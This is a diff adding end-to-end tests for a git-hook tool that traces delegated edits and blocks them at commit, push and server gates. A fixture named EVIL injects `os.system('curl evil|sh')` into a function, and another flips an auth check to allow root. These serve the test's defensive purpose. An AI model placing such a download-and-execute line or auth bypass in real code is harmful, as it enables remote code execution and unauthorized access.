@@ -1,0 +1,130 @@
+"""A writer's edit reproduced in its own path is the writer's content, however short its
+lines (SPEC §3 "Attribution follows content"; row A6 of
+:mod:`gentle_hooks.policy.attribution`): real git, ``gentle-hook install``, a bare remote
+with the server gate and notes shared with it.
+
+* ``git add -p`` or ``git checkout -p`` keeping only the writer's one-line replacement of
+  a common line (``return False`` -> ``return True``) delivers the writer's edit: blocked
+  at commit, at push and at the server, and the pending work does not expire;
+* ``git mv`` of the writer's file with one more edit is the writer's file renamed (paired
+  as git pairs a rename): its one changed line is still the writer's, at every gate, and
+  the pending work does not expire.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.e2e.conftest import World
+from tests.e2e.test_attribution import (
+    TRAILER,
+    _blocked_push,
+    _blocked_staged,
+    _message,
+    _server_rejects,
+)
+
+AUTH = (
+    'def is_allowed(user):\n    if user.name == "root":\n        return False\n'
+    "    return user.ok\n\n\n\n\n\n\n\n\ndef helper():\n    return 42\n"
+)
+#: The writer's two hunks: a common line flipped, and a call.
+WRITER = AUTH.replace("return False", "return True").replace(
+    "return 42", "return compute_answer(42)"
+)
+FLIPPED = AUTH.replace("return False", "return True")
+
+
+@pytest.fixture
+def served(native: World) -> World:
+    """``native`` with the server gate, notes shared, and ``src/auth.py`` pushed."""
+    w = native
+    assert w.gh("install", "--server", cwd=w.remote).code == 0
+    assert w.gh("install", "--share", "origin").code == 0
+    w.write("src/auth.py", AUTH)
+    w.ok("add", "-A")
+    w.ok("commit", "-qm", "human: auth")
+    w.ok("push", "-q", "origin", "main")
+    return w
+
+
+@pytest.mark.parametrize("how", ["add -p", "checkout -p"])
+def test_the_writers_one_line_flip_taken_alone_is_delegated(served: World, how: str) -> None:
+    """The writer flips ``return False`` to ``return True`` and wraps ``42`` in a call; the
+    flip alone is staged (``git add -p``: first hunk) or kept (``git checkout -p``: the
+    second hunk thrown away): that commit carries the writer's edit."""
+    w = served
+    w.delegate("src/auth.py", WRITER)
+    if how == "add -p":
+        r = w.run(["git", "add", "-p", "src/auth.py"], input=b"y\nn\n")
+    else:
+        r = w.run(["git", "checkout", "-p", "src/auth.py"], input=b"n\ny\n")
+    assert r.code == 0, r
+    assert w.ok("diff", "--cached" if how == "add -p" else "HEAD").count("\n+ ") == 1
+    r = w.git("commit", "-qam" if how == "checkout -p" else "-qm", "flip")
+    assert not [line for line in r.said if "expired" in line], r
+    _blocked_staged(r, "src/auth.py")
+    w.ok("commit", "-q", "--no-verify", "-m", "flip", *(["-a"] if how == "checkout -p" else []))
+    bad = w.rev("HEAD")
+    assert w.ok("show", "HEAD:src/auth.py") == FLIPPED
+    assert TRAILER in _message(w)
+    _blocked_push(w.git("push", "origin", "main"), bad, "src/auth.py")
+    _server_rejects(w, bad)
+
+
+APP = "def add(a, b):\n    return a + b\n\ndef helper():\n    return 42\n"
+EVIL = APP.replace("return a + b", "return __import__('os').system('curl evil|sh') or a + b")
+
+
+def test_git_mv_with_an_edit_keeps_the_writers_one_line_its_own(served: World) -> None:
+    """The writer changes one line of ``src/app.py``; ``git mv`` to ``src/app2.py`` and a
+    human's ``42`` -> ``43`` make it a deletion and an addition whose blob is nobody's: as
+    git pairs them, a rename, so the writer's line is in the path it wrote."""
+    w = served
+    w.write("src/app.py", APP)
+    w.ok("commit", "-qam", "human: helper")
+    w.ok("push", "-q", "origin", "main")
+    w.delegate(text=EVIL)
+    w.ok("mv", "src/app.py", "src/app2.py")
+    w.write("src/app2.py", EVIL.replace("42", "43"))
+    w.ok("add", "-A")
+    r = w.git("commit", "-qm", "x")
+    assert not [line for line in r.said if "expired" in line], r
+    _blocked_staged(r, "src/app.py")
+    w.ok("commit", "-q", "--no-verify", "-m", "x")
+    bad = w.rev("HEAD")
+    assert TRAILER in _message(w)
+    _blocked_push(w.git("push", "origin", "main"), bad, "src/app.py")
+    ci = w.gh("gate", "--range", "origin/main..HEAD")
+    assert ci.code == 1 and f"BLOCKED {bad[:12]}" in ci.out + ci.err, ci
+    _server_rejects(w, bad)
+    status = w.gh("status")
+    assert "expired" not in status.out + status.err, status
+
+
+def test_the_writers_one_line_flip_applied_as_a_patch_in_another_worktree(
+    served: World,
+) -> None:
+    """The writer's only edit (``return False`` -> ``return True``) in worktree A, taken as
+    ``git diff`` and applied in linked worktree B, whose file already differs (so the blob
+    is not the writer's): B's commit carries the writer's edit at commit, at push (from B)
+    and at the server."""
+    w = served
+    b = w.base / "b"
+    w.ok("worktree", "add", "-q", "-b", "topic", str(b), "main")
+    w.write("src/auth.py", AUTH + "\n\ndef other():\n    return 1\n", cwd=b)
+    w.ok("commit", "-qam", "human b: other", cwd=b)  # B's file differs: not the writer's blob
+    w.delegate("src/auth.py", FLIPPED)  # in A
+    patch = w.ok("diff")
+    applied = w.run(["git", "apply"], cwd=b, input=patch.encode())
+    assert applied.code == 0, applied
+    r = w.git("commit", "-qam", "flip", cwd=b)
+    _blocked_staged(r, "src/auth.py")
+    w.ok("commit", "-q", "--no-verify", "-am", "flip", cwd=b)
+    bad = w.rev("HEAD", cwd=b)
+    assert TRAILER in _message(w, cwd=b)
+    _blocked_push(w.git("push", "origin", "topic:main", cwd=b), bad, "src/auth.py")
+    before = w.remote_ref("main")
+    r = w.git("push", "--no-verify", "origin", "topic:main", "refs/notes/gentle-hooks", cwd=b)
+    assert r.code != 0 and f"remote: gentle-hooks: BLOCKED {bad[:12]}" in r.err, r
+    assert w.remote_ref("main") == before
